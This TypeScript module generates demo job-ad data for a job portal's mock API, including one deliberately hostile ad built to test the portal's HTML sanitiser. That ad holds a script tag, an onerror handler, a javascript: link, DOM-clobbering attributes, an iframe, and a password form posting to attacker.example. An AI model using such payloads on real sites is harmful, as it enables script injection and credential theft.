import type { CompanyRef, Job, JobCompany, JobSummary } from '@/api/contract/jobs';
import type { EmploymentType } from '@/api/contract/shared';
import { AD_WORDS, DUTIES, OFFERS, REQUIREMENTS, ROLES, titleInSentence } from './ads';
import { category as categoryOf, type CategoryKey } from './categories';
import { COMPANY_SEEDS, type CompanySeed } from './companies';
import { demoPay } from './pay';
import { cityNamed } from './places';
import { createRandom, type Random } from './prng';
import { escapeHtml } from '@/lib/escape-html';
import { htmlToText, slugify } from './text';

const DAY = 86_400_000;
const startOfUtcDay = (time: number) => time - (((time % DAY) + DAY) % DAY);

/** A job as the demo keeps it: the API's Job plus its dates as numbers, for search. */
export interface DemoJob extends Job {
  finalApplyTime: number;
  publishedTime: number;
}

const EMPLOYMENT_WEIGHTS: Array<[EmploymentType, number]> = [
  ['full-time', 60],
  ['part-time', 15],
  ['temporary', 12],
  ['summer', 8],
  ['internship', 5],
];

const FIRST_NAMES = [
  'Anna',
  'Erik',
  'Sara',
  'Lars',
  'Ingrid',
  'Mikkel',
  'Sofie',
  'Johan',
  'Maja',
  'Ola',
  'Freja',
  'Nils',
];
const LAST_NAMES = [
  'Andersson',
  'Hansen',
  'Nielsen',
  'Johansson',
  'Larsen',
  'Berg',
  'Lindgren',
  'Jensen',
  'Dahl',
  'Holm',
];

function pickWeighted<T>(random: Random, weighted: Array<[T, number]>): T {
  const total = weighted.reduce((sum, [, weight]) => sum + weight, 0);
  let roll = random.next() * total;
  for (const [value, weight] of weighted) {
    roll -= weight;
    if (roll < 0) return value;
  }
  return weighted[0]![0];
}

export function companyRef(seed: CompanySeed, apiBase: string): CompanyRef {
  return {
    id: seed.id,
    name: seed.name,
    pageSlug: 'about-us',
    logoUrl: seed.logo ? `${apiBase}/companies/${seed.id}/logo` : null,
  };
}

/** The company as a job's own page has it: with its privacy notice, or null. */
function jobCompany(seed: CompanySeed, apiBase: string): JobCompany {
  return { ...companyRef(seed, apiBase), privacyNoticeUrl: seed.privacyNoticeUrl ?? null };
}

/** The ad in the employer's own language (companies.ts), from ads.ts's parts. */
function adHtml(
  random: Random,
  title: string,
  company: CompanySeed,
  city: string,
  category: CategoryKey,
): string {
  const language = company.language;
  const words = AD_WORDS[language];
  const duties = random.sample(DUTIES[category][language], 4);
  const requirements = random.sample(REQUIREMENTS[language], 3);
  const offers = random.sample(OFFERS[language], 3);
  const role = titleInSentence(title);
  const list = (items: string[]) =>
    `<ul>${items.map((item) => `<li>${escapeHtml(item)}</li>`).join('')}</ul>`;
  return [
    `<h2>${escapeHtml(words.aboutRole)}</h2>`,
    `<p>${escapeHtml(`${words.intro(company.name, role, city)} ${company.tagline} ${words.team(random.int(4, 25))}`)}</p>`,
    `<h2>${escapeHtml(words.whatYouDo)}</h2>`,
    `<p>${escapeHtml(words.asRole(role))}</p>`,
    list(duties),
    `<h2>${escapeHtml(words.whoYouAre)}</h2>`,
    `<p>${escapeHtml(words.weBelieve)}</p>`,
    list(requirements),
    `<h2>${escapeHtml(words.weOffer)}</h2>`,
    list(offers),
    `<p>${escapeHtml(words.closing)} <strong>${escapeHtml(words.welcome)}</strong></p>`,
  ].join('\n');
}

/** An ad that tries every trick, so the sanitiser in the portal is exercised by real data. */
export const HOSTILE_JOB_SLUG = 'security-awareness-trainer-oslo';
const HOSTILE_AD = [
  '<h2>About the role</h2>',
  '<p>Teach our colleagues to spot phishing.<script>window.__hostileAd = true; alert("script ran")</script></p>',
  '<img src="/does-not-exist.png" alt="" onerror="window.__hostileAd = true">',
  '<p style="position:fixed;inset:0;background:red">This paragraph carries a style attribute.</p>',
  '<p><a href="javascript:window.__hostileAd=true">A javascript: link</a> and <a href="https://example.com/training" target="_blank">a normal link</a>.</p>',
  '<form action="https://attacker.example/steal"><input name="password" placeholder="Password"><button>Send</button></form>',
  '<p id="__proto__" name="getElementById">Element with clobbering id and name.</p>',
  '<iframe src="https://attacker.example"></iframe>',
  '<h2>Who you are</h2>',
  '<ul><li>You know what a sanitiser is</li><li>You like clean HTML</li></ul>',
].join('\n');

export interface GenerateJobsOptions {
  count: number;
  /** Start of the day the data is relative to (ms). */
  today: number;
  seed?: number;
  /** Base address the logo URLs start with (the main API). */
  apiBase?: string;
}

/**
 * The job catalogue: the same count and seed give the same jobs, titles and slugs; dates are
 * offsets from `today`, so some deadlines are always in the past and most in the future.
 */
export function generateJobs({
  count,
  today,
  seed = 20240611,
  apiBase = '',
}: GenerateJobsOptions): DemoJob[] {
  const random = createRandom(seed);
  // Pay has a stream of its own, so adding it left every other generated field as it was.
  const payRandom = createRandom(seed + 1);
  const jobs: DemoJob[] = [];
  const usedSlugs = new Set<string>();
  for (let index = 0; index < count; index += 1) {
    const company = COMPANY_SEEDS[index % COMPANY_SEEDS.length]!;
    const category = random.pick(company.categories);
    const title = random.pick(ROLES[category])[company.language];
    const city = cityNamed(random.pick(company.cities));
    // About one in six is closed: published weeks ago, with a final apply date before today.
    const closed = random.chance(0.17);
    const publishedTime =
      today - random.int(closed ? 25 : 1, closed ? 60 : 40) * DAY + random.int(7, 16) * 3_600_000;
    const endOfDay = 22 * 3_600_000 + 59 * 60_000;
    const finalApplyTime = closed
      ? startOfUtcDay(publishedTime) + random.int(7, 20) * DAY + endOfDay
      : today + random.int(3, 60) * DAY + endOfDay;
    let slug = `${slugify(title)}-${slugify(city.name)}`;
    if (usedSlugs.has(slug)) slug = `${slug}-${(index + 1).toString(36)}`;
    usedSlugs.add(slug);
    const html = adHtml(random, title, company, city.name, category);
    const contactFirst = random.pick(FIRST_NAMES);
    const contactLast = random.pick(LAST_NAMES);
    const employmentType = pickWeighted(random, EMPLOYMENT_WEIGHTS);
    jobs.push(
      withDemoFields({
        id: `job-${index + 1}`,
        slug,
        title,
        company: jobCompany(company, apiBase),
        location: city.name,
        region: city.region,
        country: city.country,
        category: categoryOf(category),
        language: company.language,
        employmentType,
        publishedAt: new Date(publishedTime).toISOString(),
        finalApplyDate: new Date(finalApplyTime).toISOString(),
        excerpt: '',
        pay: demoPay(payRandom, category, city.country, employmentType),
        adHtml: html,
        contactName: `${contactFirst} ${contactLast}`,
        contactEmail: `${slugify(contactFirst)}.${slugify(contactLast)}@${company.id}.example.com`,
      }),
    );
  }
  if (count >= 10) {
    const company = COMPANY_SEEDS.find((seedCompany) => seedCompany.id === 'asgard-sikkerhet')!;
    const city = cityNamed('Oslo');
    jobs.push(
      withDemoFields({
        id: `job-${count + 1}`,
        slug: HOSTILE_JOB_SLUG,
        title: 'Security Awareness Trainer',
        company: jobCompany(company, apiBase),
        location: city.name,
        region: city.region,
        country: city.country,
        category: categoryOf('it'),
        // An employer may write an ad in another language than its usual one.
        language: 'en',
        employmentType: 'full-time',
        publishedAt: new Date(today - 2 * DAY).toISOString(),
        finalApplyDate: new Date(today + 30 * DAY).toISOString(),
        excerpt: '',
        pay: null,
        adHtml: HOSTILE_AD,
        contactName: '<b>Mallory</b> "Quote"',
        contactEmail: 'mallory@asgard-sikkerhet.example.com',
      }),
    );
  }
  return jobs;
}

function withDemoFields(job: Omit<DemoJob, 'finalApplyTime' | 'publishedTime'>): DemoJob {
  const firstParagraph = htmlToText(/<p>([\s\S]*?)<\/p>/.exec(job.adHtml)?.[1] ?? job.adHtml);
  const excerpt =
    firstParagraph.length > 180
      ? `${firstParagraph.slice(0, 177).replace(/\s+\S*$/, '')}…`
      : firstParagraph;
  return {
    ...job,
    excerpt: job.excerpt || excerpt,
    finalApplyTime: Date.parse(job.finalApplyDate),
    publishedTime: Date.parse(job.publishedAt),
  };
}

/** The Job the API answers with: the demo's own fields removed. */
export function toJob(job: DemoJob): Job {
  const { finalApplyTime: _f, publishedTime: _p, ...rest } = job;
  return rest;
}

export function toJobSummary(job: DemoJob): JobSummary {
  const {
    adHtml: _a,
    contactName: _n,
    contactEmail: _e,
    company: { privacyNoticeUrl: _p, ...company },
    ...summary
  } = toJob(job);
  return { ...summary, company };
}
